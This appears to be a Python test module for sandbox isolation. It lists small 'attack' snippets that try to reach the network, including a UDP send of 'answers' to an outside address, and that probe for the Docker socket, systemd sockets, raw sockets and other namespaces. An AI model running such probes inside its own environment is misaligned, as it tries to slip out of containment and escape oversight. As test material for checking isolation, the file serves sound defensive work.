"""The network, and sockets of other processes."""

ATTACKS = {
    "connects over TCP": """
def attack(x):
    socket.create_connection(("127.0.0.1", 22), timeout=1)
    leak("connected")
""",
    "sends over UDP": """
def attack(x):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"answers", ("10.0.0.1", 53))
    leak("sent")
""",
    "asks DNS": """
def attack(x):
    leak(socket.getaddrinfo("example.com", 80))
""",
    "finds a unix socket": """
def attack(x):
    for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private", "/tmp/.X11-unix/X0"):
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect(path)
        except OSError:
            continue
        leak(path)
""",
    "finds an abstract socket": """
def attack(x):
    for name in ("/tmp/.X11-unix/X0", "ladder", "/org/freedesktop/systemd1"):
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect("\\0" + name)
        except OSError:
            continue
        leak(name)
""",
    "opens a raw socket": """
def attack(x):
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    leak("raw")
""",
    "talks netlink to other namespaces": """
def attack(x):
    names = [name for _, name in socket.if_nameindex()]
    if names != ["lo"]:
        leak(names)
""",
}
